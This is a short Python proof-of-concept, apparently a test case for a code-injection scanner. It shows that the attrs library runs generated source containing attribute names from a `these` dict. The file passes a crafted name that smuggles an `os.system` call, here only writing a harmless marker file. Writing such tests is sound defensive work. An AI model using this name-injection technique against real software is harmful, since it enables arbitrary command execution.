# rule: code_string
# marker: pwned_f1_attr_these
# Family 1: attrs pastes the names of a `these` dict into the source it
# generates and runs.
import attr

class C:
    pass

name = "y=1;__import__('os').system('echo ran > pwned_f1_attr_these');y"
attr.s(C, these={name: attr.ib(default=1)})
